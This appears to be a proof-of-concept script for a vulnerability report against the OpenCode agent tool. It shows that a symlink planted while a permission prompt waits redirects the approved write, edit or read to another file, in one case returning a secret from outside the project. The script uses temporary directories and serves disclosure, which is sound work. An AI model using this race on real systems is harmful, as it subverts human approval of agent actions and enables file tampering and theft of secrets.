"""Finding (new, related to anomalyco/opencode #40160): an approved call acts on whatever
its path resolves to when it runs, not on the file the user approved. Measured with
1.18.33, with the session ruleset `edit: ask` and `external_directory: ask`, a link is
planted while the call's ask waits, pointing to another file of the same class, so no
boundary is crossed and no second ask is due; the ask is then answered `once`:
1. `write notes.txt`: `notes.txt` becomes a link to `other.txt`; the approved write
   overwrites `other.txt` (capconf appr.link-planted-same-class.write-file);
2. `edit notes.txt`: the same link; the approved edit changes `other.txt` (edit-file);
3. `write sub/notes.txt`: `sub` is moved away and becomes a link to the directory `other`;
   the approved write lands in `other/notes.txt` (write-directory);
4. `read OUTSIDE/notes.txt` (asks `external_directory`): it becomes a link to
   `OUTSIDE/secret.txt`; the approved read returns the secret (read-outside).
#40160 is the same mechanism carrying a write out of the project; here the approval
itself is redirected, inside the project or outside it.

Direct reproduction, no capconf: `opencode serve`, the adapter's scripted model on
127.0.0.1 emitting the four calls, OpenCode's own reply API. Exit 0 = reproduced.
"""

from __future__ import annotations

import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from _serve import Serve, serve

AGENT = ("---\ndescription: works on notes\nmode: subagent\npermission:\n  edit: allow\n"
         "  read: allow\n---\nWork on the notes.\n")
RULES = [{"permission": "external_directory", "pattern": "*", "action": "ask"},
         {"permission": "edit", "pattern": "*", "action": "ask"}]


def approved_after(oc: Serve, token: str, call: tuple[str, dict[str, Any]],
                   plant: Callable[[], None]) -> list[dict[str, Any]]:
    """Make `call` in a new session, plant the link while its ask waits, approve once;
    the call's tool states."""
    session = oc.http("POST", "/session", {"title": token, "permission": RULES})["id"]
    oc.prompt(session, "worker", token, call)
    asks = oc.wait_asks(session)
    if not asks:
        raise SystemExit(f"not reproduced: {call[0]} never asked")
    plant()
    oc.http("POST", f"/permission/{asks[0]['id']}/reply", {"reply": "once"})
    for _ in range(150):
        states = oc.tool_states(session)
        if any(st.get("status") in ("completed", "error") for st in states):
            return states
        time.sleep(0.2)
    return oc.tool_states(session)


def relink(path: Path, target: str) -> Callable[[], None]:
    def plant() -> None:
        path.unlink(missing_ok=True)
        path.symlink_to(target)
    return plant


def main() -> int:
    with tempfile.TemporaryDirectory() as tmp, serve(Path(tmp), {"worker": AGENT}) as oc:
        ws, outside = oc.proj, Path(tmp) / "OUTSIDE"
        outside.mkdir()
        (ws / "other.txt").write_text("keep\n")
        approved_after(oc, "w", ("write", {"filePath": str(ws / "notes.txt"),
                                           "content": "PLANTED"}),
                       relink(ws / "notes.txt", "other.txt"))
        wrote = (ws / "other.txt").read_text()
        print(f"1. write notes.txt: other.txt now {wrote!r}")

        (ws / "notes.txt").unlink()
        (ws / "notes.txt").write_text("one two\n")
        (ws / "other.txt").write_text("one two\n")
        approved_after(oc, "e", ("edit", {"filePath": str(ws / "notes.txt"),
                                          "oldString": "two", "newString": "PLANTED"}),
                       relink(ws / "notes.txt", "other.txt"))
        edited = (ws / "other.txt").read_text()
        print(f"2. edit notes.txt: other.txt now {edited!r}")

        (ws / "sub").mkdir()
        (ws / "other").mkdir()

        def swap_dir() -> None:
            (ws / "sub").rename(ws / "sub.old")
            (ws / "sub").symlink_to("other")
        approved_after(oc, "d", ("write", {"filePath": str(ws / "sub" / "notes.txt"),
                                           "content": "PLANTED"}), swap_dir)
        landed = ws / "other" / "notes.txt"
        moved = landed.exists() and landed.read_text() == "PLANTED"
        print(f"3. write sub/notes.txt: other/notes.txt written: {moved}")

        (outside / "notes.txt").write_text("public\n")
        (outside / "secret.txt").write_text("SECRET\n")
        states = approved_after(oc, "r", ("read", {"filePath": str(outside / "notes.txt")}),
                                relink(outside / "notes.txt", "secret.txt"))
        output = " ".join(str(st.get("output") or st.get("error") or "") for st in states)
        print(f"4. read OUTSIDE/notes.txt: the approved read returned the secret: "
              f"{'SECRET' in output}")
        if "PLANTED" in wrote and "PLANTED" in edited and moved and "SECRET" in output:
            print("REPRODUCED: each approved call acted on the file the planted link "
                  "points to")
            return 0
        print("not reproduced")
        return 1


if __name__ == "__main__":
    sys.exit(main())
